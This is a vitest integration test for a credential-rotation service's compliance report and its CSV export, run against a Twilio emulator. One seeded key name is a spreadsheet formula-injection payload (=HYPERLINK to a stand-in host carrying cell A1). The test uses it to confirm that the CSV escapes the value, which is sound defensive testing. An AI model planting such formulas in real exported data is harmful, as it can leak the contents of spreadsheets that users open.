import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { COMPLIANCE_CSV_COLUMNS, DAY_MS } from '../../src/domain/compliance.ts';
import { Secret } from '../../src/domain/secret.ts';
import { secretPath } from '../../providers/secret-store.ts';
import type { CredentialItem, SubaccountItem } from '../../src/service/compliance.ts';
import { bearer, rotationIn, startApiHarness, type ApiHarness } from './support.ts';

/**
 * Issue 13's acceptance for the compliance report: a seeded fleet (overdue credentials, `hipaa`
 * labels, keys created outside Rotator, a closed subaccount, a credential never rotated, a failed
 * last rotation, a suspended subaccount and one Twilio refuses to list) is scanned for real — keys
 * listed at the Twilio emulator, stages read from the file store — and GET /v1/compliance is
 * compared row by row with the table below, as JSON and as CSV read by csv-parse. The report's
 * clock is fixed (NOW), and every date in the fleet is set relative to it.
 */

const NOW = Date.UTC(2026, 5, 1, 12, 0, 0);
const ago = (days: number): number => NOW - days * DAY_MS;
const iso = (ms: number): string => new Date(ms).toISOString();

describe('GET /v1/compliance on a seeded fleet', () => {
  let h: ApiHarness;
  const viewer = () => bearer(h.tokens.viewer);
  const admin = () => bearer(h.tokens.admin);
  // Subaccounts, named by what each shows.
  const S = {} as Record<'acme' | 'beta' | 'gamma' | 'delta' | 'echo' | 'fox' | 'golf', string>;
  // Keys, by role.
  const K = {} as Record<'a1' | 'a2' | 'aLegacy' | 'aLookalike' | 'aLeftover' | 'bCi' | 'c' | 'd' | 'e0' | 'e' | 'e2', string>;
  const R = {} as Record<'a1' | 'a2' | 'e' | 'e2', string>;
  let expectedCredentials: CredentialItem[];
  let expectedSubaccounts: Array<Omit<SubaccountItem, 'finding'> & { finding: unknown }>;

  const put = async (sid: string, name: string, keySid: string, rotationId: string) => {
    const path = secretPath(h.stack.cfg.secretPathTemplate, sid, name);
    await h.stack.store.putPending(path, rotationId, { accountSid: sid, apiKeySid: keySid, apiKeySecret: new Secret('s'.repeat(32)) });
  };
  const current = async (sid: string, name: string, keySid: string) => {
    const id = crypto.randomUUID();
    await put(sid, name, keySid, id);
    await h.stack.store.promotePending(secretPath(h.stack.cfg.secretPathTemplate, sid, name), id, keySid);
  };
  const key = (sid: string, name: string, days: number): string => h.stack.emu.seedKey(sid, name, 'standard', new Date(ago(days))).sid;

  beforeAll(async () => {
    h = await startApiHarness({ logLevel: 'warn', now: () => NOW });
    const emu = h.stack.emu;
    const rt = h.rt;
    S.acme = emu.createSubaccount('Acme Health').sid;
    S.beta = emu.createSubaccount('Beta, "Retail" Inc.').sid;
    S.gamma = emu.createSubaccount('Gamma').sid;
    S.delta = emu.createSubaccount('Delta').sid;
    S.echo = emu.createSubaccount('Echo').sid;
    S.fox = emu.createSubaccount('Foxtrot').sid;
    S.golf = emu.createSubaccount('Golf').sid;
    const parent = emu.parent.accountSid;
    const status: Record<string, string> = { [S.gamma]: 'closed', [S.fox]: 'suspended' };
    // The inventory as the subaccount sync writes it.
    await rt.accounts.upsertMany(
      Object.entries(S).map(([, sid]) => ({ accountSid: sid, friendlyName: emu.account(sid)!.friendlyName, status: status[sid] ?? 'active', ownerAccountSid: parent })),
      ago(400),
    );
    await rt.accounts.patch(S.acme, { labels: ['hipaa'] });
    await rt.accounts.patch(S.echo, { labels: ['hipaa'] });
    await rt.accounts.patch(S.delta, { labels: ['pci'] });

    // Rotations on record (their keys are Rotator's).
    R.a1 = (await rotationIn(rt, S.acme, 'succeeded', { step: 'done' })).id;
    R.a2 = (await rotationIn(rt, S.acme, 'failed', { step: 'create-secondary', undo: { reason: 'failure', completedAt: iso(ago(5)) } })).id;
    R.e = (await rotationIn(rt, S.echo, 'succeeded', { step: 'done' })).id;
    R.e2 = (await rotationIn(rt, S.echo, 'running', { step: 'operationalize' })).id;

    // Acme (hipaa): `default` rotated 10 days ago; `billing` adopted 40 days ago, its last rotation failed 5 days ago
    // and left its key behind; a hand-made key and one that only looks like Rotator's.
    K.a1 = key(S.acme, `rotator:${R.a1}`, 10);
    K.a2 = key(S.acme, 'billing (adopted by hand)', 40);
    K.aLegacy = key(S.acme, 'legacy-prod', 400);
    K.aLookalike = key(S.acme, 'rotator:not-a-known-rotation', 60);
    K.aLeftover = key(S.acme, `rotator:${R.a2}`, 5);
    await current(S.acme, 'default', K.a1);
    await current(S.acme, 'billing', K.a2);
    await rt.credentials.ensure({ accountSid: S.acme, name: 'default' }, { now: ago(100) });
    await rt.credentials.recordFinished({ id: R.a1, accountSid: S.acme, status: 'succeeded', dryRun: false, newKeySid: K.a1, finishedAt: iso(ago(10)), updatedAt: iso(ago(10)) }, ago(10));
    await rt.credentials.ensure({ accountSid: S.acme, name: 'billing' }, { now: ago(200) });
    await rt.credentials.recordFinished({ id: crypto.randomUUID(), accountSid: S.acme, credential: 'billing', status: 'succeeded', dryRun: false, newKeySid: K.a2, finishedAt: iso(ago(40)), updatedAt: iso(ago(40)) }, ago(40));
    await rt.credentials.recordFinished({ id: R.a2, accountSid: S.acme, credential: 'billing', status: 'failed', dryRun: false, finishedAt: iso(ago(5)), updatedAt: iso(ago(5)) });

    // Beta: managed 100 days ago, never rotated (nothing in the store); a key its developers made.
    K.bCi = key(S.beta, '=HYPERLINK("http://x/?"&A1)', 20);
    await rt.credentials.ensure({ accountSid: S.beta, name: 'default' }, { now: ago(100) });

    // Gamma: closed since; an ancient key.
    K.c = key(S.gamma, 'gamma prod', 200);
    await current(S.gamma, 'default', K.c);
    await rt.credentials.ensure({ accountSid: S.gamma, name: 'default' }, { now: ago(300) });
    await rt.credentials.recordFinished({ id: crypto.randomUUID(), accountSid: S.gamma, status: 'succeeded', dryRun: false, newKeySid: K.c, finishedAt: iso(ago(200)), updatedAt: iso(ago(200)) }, ago(200));
    emu.setAccountStatus(S.gamma, 'closed');

    // Delta (pci): a key imported by hand 95 days ago, never rotated by Rotator: overdue on the quarterly default.
    K.d = key(S.delta, 'prod (by hand)', 95);
    await current(S.delta, 'default', K.d);
    await rt.credentials.ensure({ accountSid: S.delta, name: 'default' }, { now: ago(95) });

    // Echo (hipaa): rotated 3 days ago (the old key still previous), and a rotation staging a new key (pending).
    K.e0 = key(S.echo, 'echo first key', 33);
    K.e = key(S.echo, `rotator:${R.e}`, 3);
    K.e2 = key(S.echo, `rotator:${R.e2}`, 0);
    await current(S.echo, 'default', K.e0);
    await put(S.echo, 'default', K.e, R.e);
    await h.stack.store.promotePending(secretPath(h.stack.cfg.secretPathTemplate, S.echo, 'default'), R.e, K.e);
    await put(S.echo, 'default', K.e2, R.e2);
    await rt.credentials.ensure({ accountSid: S.echo, name: 'default' }, { now: ago(33) });
    await rt.credentials.recordFinished({ id: R.e, accountSid: S.echo, status: 'succeeded', dryRun: false, newKeySid: K.e, finishedAt: iso(ago(3)), updatedAt: iso(ago(3)) }, ago(3));

    // Foxtrot: suspended, managed 10 days ago, nothing in the store. Golf: Twilio refuses to list its keys.
    emu.setAccountStatus(S.fox, 'suspended');
    await rt.credentials.ensure({ accountSid: S.fox, name: 'default' }, { now: ago(10) });
    emu.denyParent(S.golf, true);

    const hipaa = { policy: 'hipaa', policyInterval: 'P30D', maxKeyAge: null, allowedKeyAgeDays: 30 };
    const quarterly = { policy: 'default', policyInterval: 'P90D', maxKeyAge: null, allowedKeyAgeDays: 90 };
    const row = (sid: string, credential: string, labels: string[], rest: Partial<CredentialItem>): CredentialItem => ({
      accountSid: sid, credential, kind: 'api-key', labels, subaccountStatus: status[sid] ?? 'active', ...quarterly,
      keySid: null, keyCreatedAt: null, keyAgeDays: null, lastRotationAt: null, lastRotationOutcome: null, nextDueAt: null,
      overdue: false, withinPolicy: false, finding: null, scannedAt: iso(NOW), ...rest,
    });
    // The expected report, one row per managed credential.
    expectedCredentials = [
      row(S.acme, 'billing', ['hipaa'], { ...hipaa, keySid: K.a2, keyCreatedAt: iso(ago(40)), keyAgeDays: 40, lastRotationAt: iso(ago(5)), lastRotationOutcome: 'failed', nextDueAt: iso(ago(10)), overdue: true, withinPolicy: false, finding: "key is 40 days old, beyond the policy hipaa's interval P30D" }),
      row(S.acme, 'default', ['hipaa'], { ...hipaa, keySid: K.a1, keyCreatedAt: iso(ago(10)), keyAgeDays: 10, lastRotationAt: iso(ago(10)), lastRotationOutcome: 'succeeded', nextDueAt: iso(NOW + 20 * DAY_MS), withinPolicy: true }),
      row(S.beta, 'default', [], { nextDueAt: iso(ago(10)), overdue: true, finding: 'no key in the store: never rotated (bootstrap pending)' }),
      row(S.gamma, 'default', [], { keySid: K.c, keyCreatedAt: iso(ago(200)), keyAgeDays: 200, lastRotationAt: iso(ago(200)), lastRotationOutcome: 'succeeded', nextDueAt: iso(ago(110)), withinPolicy: null, finding: 'subaccount closed: its keys no longer work at Twilio; not assessed' }),
      row(S.delta, 'default', ['pci'], { keySid: K.d, keyCreatedAt: iso(ago(95)), keyAgeDays: 95, nextDueAt: iso(ago(5)), overdue: true, finding: "key is 95 days old, beyond the policy default's interval P90D" }),
      row(S.echo, 'default', ['hipaa'], { ...hipaa, keySid: K.e, keyCreatedAt: iso(ago(3)), keyAgeDays: 3, lastRotationAt: iso(ago(3)), lastRotationOutcome: 'succeeded', nextDueAt: iso(NOW + 27 * DAY_MS), withinPolicy: true }),
      row(S.fox, 'default', [], { nextDueAt: iso(NOW + 80 * DAY_MS), finding: 'no key in the store: never rotated (bootstrap pending)' }),
    ].sort((a, b) => (a.accountSid + a.credential < b.accountSid + b.credential ? -1 : 1));
    const k = (sid: string, friendlyName: string, days: number) => ({ sid, friendlyName, createdAt: iso(ago(days)), ageDays: days });
    const sub = (sid: string, friendlyName: string, rest: Partial<SubaccountItem> & { finding?: unknown }) => ({ accountSid: sid, friendlyName, status: status[sid] ?? 'active', keysAtTwilio: 0, sprawl: [], leftover: [], finding: null, scannedAt: iso(NOW), ...rest });
    expectedSubaccounts = [
      sub(S.acme, 'Acme Health', {
        keysAtTwilio: 5,
        sprawl: [k(K.aLegacy, 'legacy-prod', 400), k(K.aLookalike, 'rotator:not-a-known-rotation', 60)],
        leftover: [{ ...k(K.aLeftover, `rotator:${R.a2}`, 5), rotationId: R.a2 }],
        finding: '2 keys not created by Rotator and held by no store stage; 1 key left by interrupted rotations',
      }),
      sub(S.beta, 'Beta, "Retail" Inc.', { keysAtTwilio: 1, sprawl: [k(K.bCi, '=HYPERLINK("http://x/?"&A1)', 20)], finding: '1 key not created by Rotator and held by no store stage' }),
      sub(S.gamma, 'Gamma', { keysAtTwilio: null, finding: 'closed: its keys no longer work at Twilio; not assessed' }),
      sub(S.delta, 'Delta', { keysAtTwilio: 1 }),
      sub(S.echo, 'Echo', { keysAtTwilio: 3 }),
      sub(S.fox, 'Foxtrot', { keysAtTwilio: null, finding: 'keys not listed: suspended at Twilio (its keys cannot be listed until it is reactivated); sprawl unknown' }),
      sub(S.golf, 'Golf', { keysAtTwilio: null, finding: expect.stringMatching(/^keys not listed: Twilio did not list them \(.+\); sprawl unknown$/) }),
    ].sort((a, b) => (a.accountSid < b.accountSid ? -1 : 1));

    const scan = await rt.compliance.scanner!.scanOnce('test');
    expect(scan).not.toBe('busy');
  });
  afterAll(async () => h?.close());

  const get = (query = '', headers = viewer()) => h.app.inject({ method: 'GET', url: `/v1/compliance${query}`, headers });

  it('has exactly the expected credential rows, row by row, in order', async () => {
    const res = await get('?limit=500');
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body.section).toBe('credentials');
    expect(body.nextCursor).toBeNull();
    expect(body.items).toHaveLength(expectedCredentials.length);
    body.items.forEach((row: CredentialItem, i: number) => expect(row, `credential row ${i} (${row.accountSid}/${row.credential})`).toEqual(expectedCredentials[i]));
  });

  it('has exactly the expected subaccount rows: sprawl with age, not store keys, imported keys or known rotations; closed, suspended and unlisted ones not clean', async () => {
    const res = await get('?section=subaccounts');
    expect(res.statusCode).toBe(200);
    const items = res.json().items as SubaccountItem[];
    expect(items).toHaveLength(expectedSubaccounts.length);
    items.forEach((row, i) => expect(row, `subaccount row ${i} (${row.friendlyName})`).toEqual(expectedSubaccounts[i]));
    const sprawlOnly = (await get('?section=subaccounts&sprawl=true')).json().items as SubaccountItem[];
    expect(sprawlOnly.map((s) => s.friendlyName).sort()).toEqual(['Acme Health', 'Beta, "Retail" Inc.']);
  });

  it('says how fresh it is and totals the fleet as of the scan', async () => {
    const body = (await get()).json();
    expect(body.generatedAt).toBe(iso(NOW));
    expect(body.scan).toMatchObject({ lastStartedAt: iso(NOW), lastFinishedAt: iso(NOW), ageSeconds: 0, subaccounts: 7, notListed: 3, running: null });
    expect(body.summaryAsOf).toBe(iso(NOW));
    expect(body.summary).toEqual({
      credentials: 7,
      assessed: 6,
      withinPolicy: 2,
      withinPolicyPercent: 33.3,
      overdue: 3,
      oldestKeyAgeDays: 95,
      oldestKey: { accountSid: S.delta, credential: 'default', keySid: K.d },
      subaccounts: 7,
      closedSubaccounts: 1,
      sprawlKeys: 3,
      leftoverKeys: 1,
    });
  });

  it('filters by overdue, label and policy; pages by cursor', async () => {
    const ids = async (q: string) => ((await get(q)).json().items as CredentialItem[]).map((r) => `${r.accountSid}/${r.credential}`);
    const idsOf = (rows: CredentialItem[]) => rows.map((r) => `${r.accountSid}/${r.credential}`);
    expect(await ids('?overdue=true')).toEqual(idsOf(expectedCredentials.filter((r) => r.overdue)));
    expect(await ids('?overdue=true')).toHaveLength(3);
    expect(await ids('?label=hipaa')).toEqual(idsOf(expectedCredentials.filter((r) => r.labels.includes('hipaa'))));
    expect(await ids('?label=pci')).toEqual([`${S.delta}/default`]);
    expect(await ids('?policy=default')).toEqual(idsOf(expectedCredentials.filter((r) => r.policy === 'default')));
    expect(await ids('?policy=hipaa&overdue=true')).toEqual([`${S.acme}/billing`]);
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const body: { items: CredentialItem[]; nextCursor: string | null } = (await get(`?limit=2${cursor ? `&cursor=${cursor}` : ''}`)).json();
      expect(body.items.length).toBeLessThanOrEqual(2);
      seen.push(...idsOf(body.items));
      cursor = body.nextCursor;
    } while (cursor);
    expect(seen).toEqual(idsOf(expectedCredentials));
    expect((await get('?cursor=bm90LWEtY3Vyc29y')).statusCode).toBe(400);
    expect((await get('?section=subaccounts&overdue=true')).statusCode).toBe(400);
    expect((await get('?label=HIPAA')).statusCode).toBe(400);
    expect((await get('?bogus=1')).statusCode).toBe(400);
  });

  it('streams the same report as CSV that a real CSV parser reads back row by row', async () => {
    const res = await get('', { ...viewer(), accept: 'text/csv' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['compliance-scanned-at']).toBe(iso(NOW));
    const records = parse(res.body, { columns: true, skip_empty_lines: false }) as Array<Record<string, string>>;
    expect(Object.keys(records[0]!)).toEqual([...COMPLIANCE_CSV_COLUMNS]);
    const cell = (v: unknown): string => (v === null || v === undefined ? '' : String(v));
    const creds = records.filter((r) => r.record === 'credential');
    expect(creds).toHaveLength(expectedCredentials.length);
    creds.forEach((r, i) => {
      const e = expectedCredentials[i]!;
      expect(
        { account_sid: r.account_sid, credential: r.credential, labels: r.labels, subaccount_status: r.subaccount_status, policy: r.policy, policy_interval: r.policy_interval, allowed_key_age_days: r.allowed_key_age_days, key_sid: r.key_sid, key_created_at: r.key_created_at, key_age_days: r.key_age_days, last_rotation_at: r.last_rotation_at, last_rotation_outcome: r.last_rotation_outcome, next_due_at: r.next_due_at, overdue: r.overdue, within_policy: r.within_policy, finding: r.finding },
        `CSV credential row ${i}`,
      ).toEqual({
        account_sid: e.accountSid, credential: e.credential, labels: e.labels.join(' '), subaccount_status: e.subaccountStatus, policy: e.policy, policy_interval: e.policyInterval, allowed_key_age_days: cell(e.allowedKeyAgeDays), key_sid: cell(e.keySid), key_created_at: cell(e.keyCreatedAt), key_age_days: cell(e.keyAgeDays), last_rotation_at: cell(e.lastRotationAt), last_rotation_outcome: cell(e.lastRotationOutcome), next_due_at: cell(e.nextDueAt), overdue: cell(e.overdue), within_policy: cell(e.withinPolicy), finding: cell(e.finding),
      });
    });
    const sprawl = records.filter((r) => r.record === 'sprawl-key').map((r) => [r.account_sid, r.key_sid, r.key_name, r.key_age_days]);
    expect(sprawl).toEqual(expectedSubaccounts.flatMap((s) => s.sprawl.map((k) => [s.accountSid, k.sid, k.friendlyName.startsWith('=') ? `'${k.friendlyName}` : k.friendlyName, String(k.ageDays)])));
    expect(records.filter((r) => r.record === 'leftover-key').map((r) => r.key_sid)).toEqual([K.aLeftover]);
    const subs = records.filter((r) => r.record === 'subaccount');
    expect(subs.map((r) => [r.account_sid, r.subaccount_name, r.subaccount_status, r.keys_at_twilio, r.sprawl_keys])).toEqual(
      expectedSubaccounts.map((s) => [s.accountSid, s.friendlyName, s.status, cell(s.keysAtTwilio), s.keysAtTwilio === null || s.status === 'closed' ? '' : String(s.sprawl.length)]),
    );
    // Filtered CSV: only the overdue credentials and their subaccounts.
    const overdue = parse((await get('?overdue=true', { ...viewer(), accept: 'text/csv' })).body, { columns: true }) as Array<Record<string, string>>;
    expect(overdue.filter((r) => r.record === 'credential').map((r) => `${r.account_sid}/${r.credential}`)).toEqual(expectedCredentials.filter((e) => e.overdue).map((e) => `${e.accountSid}/${e.credential}`));
    expect(new Set(overdue.map((r) => r.account_sid))).toEqual(new Set([S.acme, S.beta, S.delta]));
    // Nothing secret in either form.
    const everything = res.body + (await get('?limit=500')).body + (await get('?section=subaccounts')).body;
    for (const secret of h.stack.emu.issuedSecrets()) expect(everything).not.toContain(secret);
    expect(everything).not.toContain('s'.repeat(32));
  });

  describe('deleting a sprawl key', () => {
    const del = (sid: string, keySid: string, confirm: unknown, headers = admin()) =>
      h.app.inject({ method: 'POST', url: `/v1/accounts/${sid}/keys/${keySid}/delete`, headers, payload: { confirm } });

    it('refuses the store current, pending and previous keys of any credential, and keys of known rotations (409), re-checked live', async () => {
      for (const [sid, keySid, stage, credential] of [
        [S.echo, K.e, 'current', 'default'],
        [S.echo, K.e2, 'pending', 'default'],
        [S.echo, K.e0, 'previous', 'default'],
        [S.acme, K.a2, 'current', 'billing'],
      ] as const) {
        const res = await del(sid, keySid, keySid);
        expect(res.statusCode, `${stage} of ${credential}`).toBe(409);
        expect(res.json().error).toMatchObject({ code: 'key_in_store', message: expect.stringContaining(`store's ${stage} key of credential ${credential}`) });
      }
      const leftover = await del(S.acme, K.aLeftover, K.aLeftover);
      expect(leftover.statusCode).toBe(409);
      expect(leftover.json().error).toMatchObject({ code: 'rotator_key', message: expect.stringContaining(R.a2) });
      // The report lists legacy-prod as sprawl; since the scan, someone put it in the store: refused.
      await put(S.acme, 'reporting', K.aLegacy, crypto.randomUUID());
      await h.rt.credentials.ensure({ accountSid: S.acme, name: 'reporting' });
      const adopted = await del(S.acme, K.aLegacy, K.aLegacy);
      expect(adopted.statusCode).toBe(409);
      expect(adopted.json().error).toMatchObject({ code: 'key_in_store', message: expect.stringContaining('pending key of credential reporting') });
      for (const k of [K.e, K.e2, K.e0, K.a2, K.aLeftover, K.aLegacy]) expect(h.stack.emu.listKeys(k === K.e || k === K.e2 || k === K.e0 ? S.echo : S.acme).some((x) => x.sid === k)).toBe(true);
    });

    it('refuses without the key SID repeated (400), a key Twilio does not list (404), a closed or unlistable subaccount (409), an unknown subaccount (404)', async () => {
      const mismatch = await del(S.beta, K.bCi, K.aLegacy);
      expect(mismatch.statusCode).toBe(400);
      expect(mismatch.json().error.code).toBe('confirmation_required');
      expect((await del(S.beta, 'SK123', 'SK123')).json().error.code).toBe('invalid_key_sid');
      expect((await h.app.inject({ method: 'POST', url: `/v1/accounts/${S.beta}/keys/${K.bCi}/delete`, headers: admin(), payload: {} })).statusCode).toBe(400);
      const missing = `SK${'0'.repeat(32)}`;
      expect((await del(S.beta, missing, missing)).json().error.code).toBe('key_not_found');
      expect((await del(S.beta, missing, missing)).statusCode).toBe(404);
      const closed = await del(S.gamma, missing, missing);
      expect([closed.statusCode, closed.json().error.code]).toEqual([409, 'subaccount_closed']);
      const refused = await del(S.golf, missing, missing);
      expect([refused.statusCode, refused.json().error.code]).toEqual([409, 'keys_unknown']);
      const unknown = await del(`AC${'e'.repeat(32)}`, missing, missing);
      expect([unknown.statusCode, unknown.json().error.code]).toEqual([404, 'subaccount_not_found']);
      expect(h.stack.emu.listKeys(S.beta).map((k) => k.sid)).toEqual([K.bCi]);
    });

    it('deletes a sprawl key named twice, audited with the key SID; the report no longer lists it', async () => {
      const res = await del(S.beta, K.bCi, K.bCi);
      expect(res.statusCode).toBe(200);
      expect(res.json()).toEqual({ accountSid: S.beta, keySid: K.bCi, result: 'deleted' });
      expect(h.stack.emu.listKeys(S.beta)).toEqual([]);
      const audit = await h.rt.audit.list({ accountSid: S.beta, limit: 20 });
      expect(audit.items.find((e) => e.action === 'compliance.key.delete' && e.status === 200)).toMatchObject({ actor: 'sec', role: 'admin', detail: `key ${K.bCi}: deleted` });
      const refusals = audit.items.filter((e) => e.action === 'compliance.key.delete' && e.status === 400).map((e) => e.detail);
      expect(refusals).toContain(`key ${K.bCi}: refused (confirmation_required)`);
      expect(refusals).toContain(`key ${K.bCi}`); // refused by the body's schema (no confirm): the key is named all the same
      const beta = ((await get('?section=subaccounts')).json().items as SubaccountItem[]).find((s) => s.accountSid === S.beta)!;
      expect(beta).toMatchObject({ keysAtTwilio: 0, sprawl: [], finding: null });
      expect(((await get('?section=subaccounts&sprawl=true')).json().items as SubaccountItem[]).map((s) => s.accountSid)).not.toContain(S.beta);
    });
  });

  it('roles: a viewer reads, only an admin scans or deletes; no token is 401', async () => {
    const k = `SK${'1'.repeat(32)}`;
    const url = `/v1/accounts/${S.acme}/keys/${k}/delete`;
    expect((await get('', {})).statusCode).toBe(401);
    expect((await get('', bearer(h.tokens.operator))).statusCode).toBe(200);
    for (const role of ['viewer', 'operator'] as const) {
      expect((await h.app.inject({ method: 'POST', url, headers: bearer(h.tokens[role]), payload: { confirm: k } })).statusCode).toBe(403);
      expect((await h.app.inject({ method: 'POST', url: '/v1/compliance/scan', headers: bearer(h.tokens[role]) })).statusCode).toBe(403);
    }
    expect((await h.app.inject({ method: 'POST', url, payload: { confirm: k } })).statusCode).toBe(401);
    const scan = await h.app.inject({ method: 'POST', url: '/v1/compliance/scan', headers: admin() });
    expect(scan.statusCode).toBe(202);
    expect(scan.json()).toMatchObject({ requestedAt: iso(NOW), scan: { lastFinishedAt: iso(NOW) } });
    expect(await h.rt.compliance.facts.requestedAt()).toBe(NOW);
  });
});
